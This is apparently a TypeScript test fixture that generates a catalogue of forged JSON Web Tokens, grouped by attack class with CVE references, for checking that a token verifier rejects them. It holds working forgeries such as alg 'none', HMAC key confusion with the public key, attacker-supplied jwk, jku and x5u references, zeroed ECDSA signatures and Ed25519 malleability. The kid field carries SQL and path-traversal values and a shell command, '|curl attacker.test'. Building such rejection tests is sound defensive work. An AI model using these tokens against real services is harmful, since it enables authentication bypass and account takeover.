import { b64, type Claims, type Forge, forged, forgeParts, goodClaims, hmacToken, json, signRaw } from './forge.ts'

/** A token nobody may accept, named after its attack. The text before the colon is the class. */
export type HostileToken = readonly [name: string, make: (forge: Forge) => string]

const withClaims = (name: string, claims: Claims): HostileToken => [name, (forge) => forged(forge, forge.es, {}, claims)]
const withHeader = (name: string, header: (forge: Forge) => Claims): HostileToken => [
  name,
  (forge) => forged(forge, forge.es, header(forge)),
]
const withPayload = (name: string, payload: (forge: Forge) => string | Uint8Array): HostileToken => [
  name,
  (forge) => forgeParts(json({ alg: 'ES256', kid: forge.es.kid }), b64(payload(forge)), forge.es),
]
const withHeaderText = (name: string, header: (forge: Forge) => string | Uint8Array): HostileToken => [
  name,
  (forge) => forgeParts(b64(header(forge)), json(goodClaims(forge)), forge.es),
]
const signature = (name: string, change: (signature: Buffer, forge: Forge) => Uint8Array | string): HostileToken => [
  name,
  (forge) => {
    const [header, payload, sig] = forged(forge, forge.es).split('.') as [string, string, string]
    const changed = change(Buffer.from(sig, 'base64url'), forge)
    return `${header}.${payload}.${typeof changed === 'string' ? changed : b64(changed)}`
  },
]
const unsigned = (name: string, header: Claims, sig = ''): HostileToken => [
  name,
  (forge) => `${json({ typ: 'JWT', ...header })}.${json(goodClaims(forge))}.${sig}`,
]

const seconds = () => Math.floor(Date.now() / 1000)
const pem = (forge: Forge) => forge.rs.publicKey.export({ format: 'pem', type: 'spki' }) as string

export const hostileTokens: readonly HostileToken[] = [
  // CVE-2015-9235, CVE-2018-1000531, CVE-2022-23540: no signature at all.
  unsigned('none: alg none, empty signature', { alg: 'none' }),
  unsigned('none: alg None', { alg: 'None' }),
  unsigned('none: alg NONE', { alg: 'NONE' }),
  unsigned('none: alg nOnE', { alg: 'nOnE' }),
  unsigned('none: alg none with a signature', { alg: 'none' }, 'AAAA'),
  unsigned('none: alg none with the kid of a real key', { alg: 'none', kid: 'es-1' }, 'AAAA'),
  unsigned('none: alg with a trailing space', { alg: 'none ' }, 'AAAA'),
  withHeader('none: alg none over a real signature', () => ({ alg: 'none' })),
  withHeader('alg: missing', () => ({ alg: undefined })),
  withHeader('alg: empty', () => ({ alg: '' })),
  withHeader('alg: null', () => ({ alg: null })),
  withHeader('alg: a list', () => ({ alg: ['ES256'] })),
  withHeader('alg: lower case', () => ({ alg: 'es256' })),
  withHeader('alg: __proto__', () => ({ alg: '__proto__' })),
  withHeader('alg: constructor', () => ({ alg: 'constructor' })),
  withHeader('alg: ES256K', () => ({ alg: 'ES256K' })),
  withHeader('alg: RS1', () => ({ alg: 'RS1' })),
  withHeader('alg: dir', () => ({ alg: 'dir' })),

  // CVE-2016-10555, CVE-2022-29217, CVE-2024-54150: the public key taken for a shared secret.
  ['confusion: HS256 with the RSA key as PEM', (forge) => hmacToken(forge, 'HS256', pem(forge), { kid: 'rs-1' })],
  ['confusion: HS256 with the PEM without its last line end', (forge) => hmacToken(forge, 'HS256', pem(forge).trimEnd(), { kid: 'rs-1' })],
  ['confusion: HS384 with the PEM', (forge) => hmacToken(forge, 'HS384', pem(forge), { kid: 'rs-1' })],
  ['confusion: HS512 with the PEM', (forge) => hmacToken(forge, 'HS512', pem(forge), { kid: 'rs-1' })],
  [
    'confusion: HS256 with the DER',
    (forge) => hmacToken(forge, 'HS256', forge.rs.publicKey.export({ format: 'der', type: 'spki' }), { kid: 'rs-1' }),
  ],
  ['confusion: HS256 with the JWK', (forge) => hmacToken(forge, 'HS256', JSON.stringify(forge.rs.jwk), { kid: 'rs-1' })],
  [
    'confusion: HS256 with the modulus',
    (forge) => hmacToken(forge, 'HS256', Buffer.from(String(forge.rs.jwk.n), 'base64url'), { kid: 'rs-1' }),
  ],
  [
    'confusion: HS256 with the EC key as PEM',
    (forge) => hmacToken(forge, 'HS256', forge.es.publicKey.export({ format: 'pem', type: 'spki' }), { kid: 'es-1' }),
  ],
  ['confusion: HS256 with an empty secret', (forge) => hmacToken(forge, 'HS256', '')],
  ['confusion: HS256 with the secret "secret"', (forge) => hmacToken(forge, 'HS256', 'secret')],
  [
    'confusion: HS256 with the shared secret a JWK Set happens to hold',
    (forge) => hmacToken(forge, 'HS256', Buffer.alloc(32, 7), { kid: 'oct-1' }),
  ],

  // CVE-2026-22817, CVE-2026-22818: the token chooses the algorithm of somebody else's key.
  [
    'key: PS256 with a key meant for RS256',
    (forge) => forgeParts(json({ alg: 'PS256', kid: 'rs-1' }), json(goodClaims(forge)), forge.rs, 'PS256'),
  ],
  [
    'key: RS512 with a key meant for RS256',
    (forge) => forgeParts(json({ alg: 'RS512', kid: 'rs-1' }), json(goodClaims(forge)), forge.rs, 'RS512'),
  ],
  ['key: the kid of another key of the set', (forge) => forged(forge, forge.es, { kid: 'ed-1' })],
  ['key: EdDSA said, ES256 done', (forge) => forged(forge, forge.es, { alg: 'EdDSA' })],
  ['key: an encryption key of the set', (forge) => forged(forge, forge.es, { kid: 'enc-1' })],
  ['key: signed by a stranger under a known kid', (forge) => forged(forge, { ...forge.attacker, kid: 'es-1' })],
  ['key: signed by a stranger without kid', (forge) => forged(forge, forge.attacker, { kid: undefined })],
  ['key: signed by a stranger under an unknown kid', (forge) => forged(forge, forge.attacker, { kid: 'es-99' })],

  // CVE-2018-0114, CVE-2019-7644: keys and addresses the token brings along.
  ['reference: embedded jwk', (forge) => forged(forge, forge.attacker, { jwk: forge.attacker.jwk })],
  ['reference: embedded jwk under a known kid', (forge) => forged(forge, { ...forge.attacker, kid: 'es-1' }, { jwk: forge.attacker.jwk })],
  ['reference: jku', (forge) => forged(forge, forge.attacker, { jku: `${forge.trap}/jwks` })],
  ['reference: x5u', (forge) => forged(forge, forge.attacker, { x5u: `${forge.trap}/cert.pem` })],
  ['reference: x5c', (forge) => forged(forge, forge.attacker, { x5c: [b64('not even a certificate')] })],
  ['reference: an address as kid', (forge) => forged(forge, forge.attacker, { kid: `${forge.trap}/key` })],
  ['reference: an issuer of the attacker', (forge) => forged(forge, forge.attacker, {}, { iss: forge.trap })],
  ['kid: path traversal to an empty file', (forge) => hmacToken(forge, 'HS256', '', { kid: '../../../../../../dev/null' })],
  ['kid: SQL', (forge) => forged(forge, forge.attacker, { kid: "x' UNION SELECT 'AAAA' --" })],
  ['kid: command', (forge) => forged(forge, forge.attacker, { kid: '|curl attacker.test' })],
  ['kid: __proto__', (forge) => forged(forge, forge.attacker, { kid: '__proto__' })],
  ['kid: constructor', (forge) => forged(forge, forge.attacker, { kid: 'constructor' })],
  ['kid: a number', (forge) => forged(forge, forge.es, { kid: 1 })],
  ['kid: a list', (forge) => forged(forge, forge.es, { kid: ['es-1'] })],
  ['kid: empty', (forge) => forged(forge, forge.es, { kid: '' })],
  ['kid: very long', (forge) => forged(forge, forge.es, { kid: 'k'.repeat(600) })],

  // The signature itself. CVE-2022-21449 is r = s = 0.
  signature('signature: one bit flipped', (sig) => Buffer.concat([Buffer.of(sig.readUInt8(0) ^ 1), sig.subarray(1)])),
  signature('signature: r = s = 0', () => Buffer.alloc(64)),
  signature('signature: r = s = 1', () => Buffer.concat([Buffer.alloc(31), Buffer.of(1), Buffer.alloc(31), Buffer.of(1)])),
  signature('signature: r = s = n', () => Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551'.repeat(2), 'hex')),
  signature('signature: DER in place of r and s', (sig) => der(sig)),
  signature('signature: one byte more', (sig) => Buffer.concat([sig, Buffer.of(0)])),
  signature('signature: one byte less', (sig) => sig.subarray(0, 63)),
  signature('signature: of another token', (_, forge) => forged(forge, forge.es, {}, { sub: 'bob' }).split('.')[2] as string),
  signature('signature: padding bits set', (sig) => nonCanonical(b64(sig))),
  signature('signature: padded with =', (sig) => `${b64(sig)}==`),
  signature('signature: a space inside', (sig) => `${b64(sig).slice(0, 20)}%20${b64(sig).slice(20)}`),
  signature('signature: standard alphabet', (sig) =>
    Buffer.concat([Buffer.of(0xfb, 0xff, 0xbf), sig.subarray(3)])
      .toString('base64')
      .replace(/=+$/, ''),
  ),
  signature('signature: a character too many', (sig) => `${b64(sig)}A`),
  ['signature: RSA, all zeros', (forge) => `${json({ alg: 'RS256', kid: 'rs-1' })}.${json(goodClaims(forge))}.${b64(Buffer.alloc(256))}`],
  [
    'signature: RSA, the number one',
    (forge) => `${json({ alg: 'RS256', kid: 'rs-1' })}.${json(goodClaims(forge))}.${b64(Buffer.concat([Buffer.alloc(255), Buffer.of(1)]))}`,
  ],
  [
    'signature: Ed25519, all zeros',
    (forge) => `${json({ alg: 'EdDSA', kid: 'ed-1' })}.${json(goodClaims(forge))}.${b64(Buffer.alloc(64))}`,
  ],
  [
    'signature: Ed25519, s not reduced',
    (forge) => {
      const input = `${json({ alg: 'EdDSA', kid: 'ed-1' })}.${json(goodClaims(forge))}`
      return `${input}.${b64(plusOrder(signRaw('EdDSA', input, forge.ed.privateKey)))}`
    },
  ],
  [
    'payload: exchanged under a good signature',
    (forge) => replacePart(forged(forge, forge.es), 1, json(goodClaims(forge, { sub: 'root' }))),
  ],
  ['payload: padding bits set', (forge) => replacePart(forged(forge, forge.es), 1, `${json(goodClaims(forge))}A`)],

  // Form.
  ['form: two parts', (forge) => forged(forge, forge.es).split('.').slice(0, 2).join('.')],
  ['form: four parts', (forge) => `${forged(forge, forge.es)}.AAAA`],
  ['form: five parts', (forge) => `${forged(forge, forge.es)}.AAAA.AAAA`],
  ['form: a leading dot', (forge) => `.${forged(forge, forge.es)}`],
  ['form: an empty header', (forge) => replacePart(forged(forge, forge.es), 0, '')],
  ['form: an empty payload', (forge) => replacePart(forged(forge, forge.es), 1, '')],
  ['form: no signature', (forge) => replacePart(forged(forge, forge.es), 2, '')],
  ['form: an encrypted token', () => `${json({ alg: 'dir', enc: 'A256GCM' })}..AAAA.AAAA.AAAA`],
  ['form: larger than 8 KiB', (forge) => forged(forge, forge.es, {}, { filler: 'x'.repeat(8000) })],
  withHeaderText('form: duplicate alg', (forge) => `{"alg":"none","alg":"ES256","kid":"${forge.es.kid}"}`),
  withHeaderText('form: header with a byte order mark', (forge) => `\ufeff{"alg":"ES256","kid":"${forge.es.kid}"}`),
  withHeaderText('form: header is a list', () => '["ES256"]'),
  withHeaderText('form: header is null', () => 'null'),
  withHeaderText('form: header is not UTF-8', () => Buffer.from('7b22616c67223a22c3287d', 'hex')),
  withHeaderText('form: header is not JSON', () => '{alg:"ES256"}'),
  withHeaderText('form: __proto__ in the header', (forge) => `{"alg":"ES256","kid":"${forge.es.kid}","__proto__":{"typ":"at+jwt"}}`),
  withPayload('form: payload is not JSON', () => 'alice'),
  withPayload('form: payload is a list', (forge) => JSON.stringify([goodClaims(forge)])),
  withPayload('form: payload is a string', (forge) => JSON.stringify(JSON.stringify(goodClaims(forge)))),
  withPayload('form: payload nests too deep', (forge) =>
    JSON.stringify(goodClaims(forge)).replace('}', `,"x":${'['.repeat(99)}${']'.repeat(99)}}`),
  ),
  withPayload('form: duplicate sub', (forge) => JSON.stringify(goodClaims(forge)).replace('{', '{"sub":"root",')),
  withPayload('form: duplicate aud, one escaped', (forge) =>
    JSON.stringify(goodClaims(forge)).replace('{', '{"\\u0061ud":"https://other.test",'),
  ),

  // Critical extensions nobody here understands (RFC 7515 section 4.1.11). CVE-2025-59420.
  withHeader('crit: an unknown extension', () => ({ crit: ['bork'], bork: true })),
  withHeader('crit: a registered name', () => ({ crit: ['exp'], exp: 9_999_999_999 })),
  withHeader('crit: empty', () => ({ crit: [] })),
  withHeader('crit: not a list', () => ({ crit: 'b64' })),
  withHeader('crit: b64 false', () => ({ crit: ['b64'], b64: false })),
  withHeader('crit: b64 false without crit', () => ({ b64: false })),

  // Another kind of token of the same issuer (RFC 8725 section 3.11).
  withHeader('type: DPoP proof', () => ({ typ: 'dpop+jwt' })),
  withHeader('type: logout token', () => ({ typ: 'logout+jwt' })),
  withHeader('type: security event', () => ({ typ: 'application/secevent+jwt' })),
  withHeader('type: client assertion', () => ({ typ: 'client-authentication+jwt' })),
  withHeader('type: ID-JAG', () => ({ typ: 'oauth-id-jag+jwt' })),
  withHeader('type: a number', () => ({ typ: 1 })),
  ['type: ID token with a nonce', (forge) => forged(forge, forge.es, { typ: 'JWT' }, { nonce: 'n-0S6' })],
  withClaims('type: ID token with at_hash', { at_hash: 'MTIzNDU2Nzg5MDEyMzQ1Ng' }),
  withClaims('type: back-channel logout', { events: { 'http://schemas.openid.net/event/backchannel-logout': {} } }),
  withClaims('type: refresh token of Keycloak', { typ: 'Refresh' }),
  withClaims('type: ID token of Keycloak', { typ: 'ID' }),
  withClaims('type: ID token of Cognito', { token_use: 'id' }),

  // Issuer and audience: equal means equal.
  withClaims('aud: missing', { aud: undefined }),
  withClaims('aud: another server', { aud: 'https://other.test/mcp' }),
  withClaims('aud: a prefix', { aud: 'https://mcp.test/mc' }),
  withClaims('aud: a longer path', { aud: 'https://mcp.test/mcp/admin' }),
  withClaims('aud: a trailing slash', { aud: 'https://mcp.test/mcp/' }),
  withClaims('aud: a longer host', { aud: 'https://mcp.test/mcp.attacker.test' }),
  withClaims('aud: other letter case', { aud: 'https://MCP.test/mcp' }),
  withClaims('aud: http', { aud: 'http://mcp.test/mcp' }),
  withClaims('aud: a list in a list', { aud: [['https://mcp.test/mcp']] }),
  withClaims('aud: an empty list', { aud: [] }),
  withClaims('aud: a list with a number', { aud: ['https://mcp.test/mcp', 1] }),
  withClaims('aud: an object', { aud: { 0: 'https://mcp.test/mcp', length: 1 } }),
  withClaims('aud: true', { aud: true }),
  withClaims('aud: several in one text', { aud: 'https://mcp.test/mcp https://other.test' }),
  withClaims('iss: missing', { iss: undefined }),
  withClaims('iss: a trailing slash', { iss: 'https://login.test//' }),
  withClaims('iss: other letter case', { iss: 'https://LOGIN.test/' }),
  withClaims('iss: a list', { iss: ['https://login.test/'] }),
  withClaims('iss: another issuer with the same keys', { iss: 'https://login.test/tenant-2' }),

  // Times: numbers, and in the right order.
  withClaims('exp: missing', { exp: undefined }),
  withClaims('exp: null', { exp: null }),
  withClaims('exp: past', { exp: seconds() - 60 }),
  withClaims('exp: zero', { exp: 0 }),
  withClaims('exp: negative', { exp: -1 }),
  withClaims('exp: a text', { exp: String(seconds() + 600) }),
  withClaims('exp: a list', { exp: [seconds() + 600] }),
  withClaims('exp: true', { exp: true }),
  withClaims('exp: in milliseconds', { exp: Date.now() + 600_000 }),
  withPayload('exp: 1e400', (forge) => JSON.stringify(goodClaims(forge)).replace(/"exp":\d+/, '"exp":1e400')),
  withClaims('nbf: in an hour', { nbf: seconds() + 3600 }),
  withClaims('nbf: a text', { nbf: '0' }),
  withClaims('iat: in an hour', { iat: seconds() + 3600 }),
  withClaims('iat: a text', { iat: 'yesterday' }),

  // Who.
  withClaims('sub: missing', { sub: undefined }),
  withClaims('sub: empty', { sub: '' }),
  withClaims('sub: an object', { sub: { id: 'alice' } }),
  withClaims('sub: a list', { sub: ['alice', 'root'] }),
  withClaims('sub: a number', { sub: 0 }),
  withClaims('sub: very long', { sub: 'a'.repeat(1025) }),
  withClaims('scope: an object', { scope: { read: true } }),
  withClaims('scope: a list of numbers', { scope: [1] }),
  withClaims('act: a text', { act: 'gateway' }),
  withClaims('act: without sub', { act: { act: { sub: 'planner' } } }),
  withClaims('act: nested too deep', { act: deepActors(9) }),
  withClaims('cnf: bound to a key, sent as bearer', { cnf: { jkt: 'A'.repeat(43) } }),
  withClaims('cnf: bound to a certificate nobody showed', { cnf: { 'x5t#S256': 'A'.repeat(43) } }),
  withClaims('cnf: an unknown binding', { cnf: { kid: 'device-1' } }),
  withClaims('cnf: empty', { cnf: {} }),
  withClaims('cnf: null', { cnf: null }),
]

function deepActors(depth: number): Claims {
  return depth === 0 ? { sub: 'end' } : { sub: `a${depth}`, act: deepActors(depth - 1) }
}

function replacePart(token: string, index: number, part: string): string {
  const parts = token.split('.')
  parts[index] = part
  return parts.join('.')
}

/** The same bytes in another spelling: an unused bit of the last character is set. */
function nonCanonical(text: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  return text.slice(0, -1) + alphabet[alphabet.indexOf(text.at(-1) as string) | 1]
}

function der(sig: Buffer): Buffer {
  const integer = (bytes: Buffer) => {
    const body = bytes.readUInt8(0) > 127 ? Buffer.concat([Buffer.of(0), bytes]) : bytes
    return Buffer.concat([Buffer.of(2, body.length), body])
  }
  const body = Buffer.concat([integer(sig.subarray(0, 32)), integer(sig.subarray(32))])
  return Buffer.concat([Buffer.of(0x30, body.length), body])
}

/** Adds the group order to s: the same signature again for verifiers that do not check its range. */
function plusOrder(sig: Buffer): Buffer {
  const order = 2n ** 252n + 27742317777372353535851937790883648493n
  let s = 0n
  for (let i = 63; i >= 32; i--) s = (s << 8n) | BigInt(sig.readUInt8(i))
  s += order
  const out = Buffer.from(sig)
  for (let i = 32; i < 64; i++) {
    out.writeUInt8(Number(s & 255n), i)
    s >>= 8n
  }
  return out
}
